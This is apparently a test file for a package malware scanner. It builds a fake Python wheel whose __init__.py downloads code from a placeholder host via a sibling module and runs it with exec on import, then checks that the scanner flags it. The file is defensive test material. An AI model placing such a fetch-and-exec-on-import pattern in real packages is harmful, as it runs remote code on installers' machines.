import { afterAll, describe, expect, it } from "vitest";
import { createScanPool } from "../../../main/scan/scan-pool.ts";
import { buildZip } from "../../support/zip-builder.ts";

const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

describe("what siblings hand over", () => {
	it("is known where it is used: an address of one file, fetched by a second, run by a third", async () => {
		const bytes = buildZip([
			{ name: "pond/config.py", content: 'HOST = "http://192.0.2.9"\nPATH = "/stage"\n' },
			{
				name: "pond/net.py",
				content:
					"import urllib.request\nfrom .config import HOST, PATH\n\ndef fetch():\n    return urllib.request.urlopen(HOST + PATH).read()\n",
			},
			{ name: "pond/__init__.py", content: "from .net import fetch\n\nexec(fetch())\n" },
		]);
		const { analysis } = await pool.scan({
			kind: "bytes",
			filename: "pond-1.0-py3-none-any.whl",
			bytes,
			origin: "upload",
		});
		const run = analysis.findings.find((finding) => finding.rule === "execution-of-downloaded");
		expect(run).toMatchObject({ path: "pond/__init__.py", reach: "import" });
		const told = analysis.findings
			.filter((finding) => finding.path === "pond/net.py")
			.map((finding) => finding.message);
		expect(told.join("\n")).toContain("hxxp[://]192[.]0[.]2[.]9/stage");
	});

	it("is nothing where nothing is taken", async () => {
		const bytes = buildZip([
			{ name: "pond/config.py", content: 'HOST = "http://192.0.2.9"\n' },
			{ name: "pond/__init__.py", content: "def exec_(run):\n    return run\n" },
		]);
		const { analysis } = await pool.scan({
			kind: "bytes",
			filename: "pond-1.0-py3-none-any.whl",
			bytes,
			origin: "upload",
		});
		expect(analysis.findings.filter((finding) => finding.path === "pond/__init__.py")).toEqual([]);
	});
});
